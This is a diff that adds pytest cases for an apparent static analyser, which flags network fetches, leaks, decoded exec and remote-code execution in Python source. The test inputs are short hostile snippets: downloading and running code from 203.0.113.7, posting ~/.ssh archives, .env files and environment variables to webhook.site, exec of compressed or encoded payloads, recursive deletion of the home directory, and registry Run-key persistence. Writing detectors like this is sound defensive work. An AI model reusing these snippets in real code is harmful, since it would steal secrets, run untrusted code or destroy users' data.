@@ -472,3 +472,76 @@ def send(lines):
 """
 
     assert Act.LEAK not in acts(read_python(code))
+
+
+@pytest.mark.parametrize(
+    "way",
+    [
+        "u = 'https://{}/a'.format('files.example-cdn.net')",
+        "u = 'https://{host}/{p}'.format(host='files.example-cdn.net', p=p)",
+        "u = 'https://%s/%s' % ('files.example-cdn.net', p)",
+        "u = 'https://'\nu += 'files.example-cdn.net'",
+        "u = 'hxxps://files.example-cdn.net'.replace('hxxp', 'http')",
+        "u = '/'.join(['https:', '', 'files.example-cdn.net', p])",
+        "u: str = 'https://files.example-cdn.net' if a else None",
+        "p, u = ('a', 'https://files.example-cdn.net')",
+        "u = ''.join(reversed(list('a'))) or 'https://files.example-cdn.net'",
+        "u = ['x', 'https://files.example-cdn.net'][-1]",
+        "if (u := 'https://files.example-cdn.net'): pass",
+        "u = (lambda h: 'https://' + h)('files.example-cdn.net')",
+        "u = {**{'u': 'https://files.example-cdn.net'}}.get('u')",
+        "class A:\n    U = 'https://files.example-cdn.net'\nclass B(A):\n    def u(self):\n        return self.U\nu = B().u()",
+        "def g():\n    yield 'https://files.example-cdn.net'\nfor u in g():\n    pass",
+        "import os\nu = os.getenv('BASE', 'https://files.example-cdn.net')",
+        "us = []\nus.append('https://files.example-cdn.net')\nfor u in us: pass",
+        "us = ['a']\nus += ['https://files.example-cdn.net']\nu = us[1]",
+        "us = ['a'] + ['https://files.example-cdn.net']\nu = us[1]",
+        "u = 'aa https://files.example-cdn.net'.split(' ')[1]",
+        "from urllib.parse import unquote\nu = unquote('https%3A//files.example-cdn.net')",
+    ],
+)  # fmt: skip
+def test_a_url_is_followed_however_it_is_put_together(way: str) -> None:
+    facts = read_python(f"import requests\n{way}\nrequests.get(u)")
+
+    assert "files.example-cdn.net" in {fact.host for fact in facts if fact.act is Act.FETCH}
+
+
+@pytest.mark.parametrize(
+    "decode",
+    [
+        "import lzma\nexec(lzma.decompress(bytes.fromhex({!r})))".format(
+            __import__("lzma").compress(PLAIN.encode()).hex()
+        ),
+        "import bz2\nexec(bz2.decompress(bytes.fromhex({!r})))".format(
+            __import__("bz2").compress(PLAIN.encode()).hex()
+        ),
+        "import codecs\nexec(codecs.decode({!r}, 'rot13'))".format(
+            __import__("codecs").encode(PLAIN, "rot13")
+        ),
+        f"import codecs\nexec(codecs.decode('{ENCODED}', 'base64'))",
+        "x = '6578'\nexec(x.decode('hex'))\nexec(__import__('base64').b64decode('!'))",
+    ],
+)
+def test_each_way_to_decode_is_known(decode: str) -> None:
+    assert Act.RUN_DECODED in acts(read_python(decode))
+
+
+@pytest.mark.parametrize(
+    ("code", "act"),
+    [
+        ("import requests, tempfile, subprocess\nwith tempfile.NamedTemporaryFile('w') as f:\n    f.write(requests.get('http://203.0.113.7/a').text)\nsubprocess.run(['python3', f.name])", Act.RUN_REMOTE),
+        ("import requests, tempfile, os\nfd, p = tempfile.mkstemp()\nos.write(fd, requests.get('http://203.0.113.7/a').content)\nos.execv(p, [p])", Act.RUN_REMOTE),
+        ("import requests, importlib.util as i\nopen('a.py', 'w').write(requests.get('http://203.0.113.7/a').text)\ni.spec_from_file_location('a', 'a.py')", Act.RUN_REMOTE),
+        ("import requests, subprocess\nc = requests.get('http://203.0.113.7/a').text\nsubprocess.run(f'bash -c \"{c}\"', shell=True)", Act.RUN_REMOTE),
+        ("import subprocess\nsubprocess.run([program, 'a'])", Act.RUN_DYNAMIC),
+        ("import shutil, requests\nshutil.make_archive('/tmp/x', 'zip', '/home/a/.ssh/')\nrequests.post('https://webhook.site/0', data=open('/tmp/x.zip'))", Act.LEAK),
+        ("import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'runas', 'a')", Act.ELEVATE),
+        ("import winreg\nwinreg.SetValueEx(k, 'SOFTWARE\\\\CurrentVersion\\\\Run', 0, 1, 'a')", Act.WRITE),
+        ("import boto3\nboto3.client('s3').upload_file('a', 'b', 'c')", Act.SEND),
+        ("from pathlib import Path\nfor p in Path.home().rglob('*'):\n    p.unlink()", Act.DELETE),
+        ("import requests\nwith open('/home/a/.env') as f:\n    e = dict(l.split('=') for l in f)\nd = {}\nfor l in open('/home/a/.env'):\n    k, v = l.split('=')\n    d[k] = v\nrequests.post('https://api.example-cdn.net', json=d)", Act.LEAK),
+        ("import os, requests\nx = [v for k, v in os.environ.items()]\nrequests.post('https://webhook.site/0', json=x)", Act.LEAK),
+    ],
+)  # fmt: skip
+def test_longer_ways_to_the_same_are_followed(code: str, act: Act) -> None:
+    assert act in acts(read_python(code))
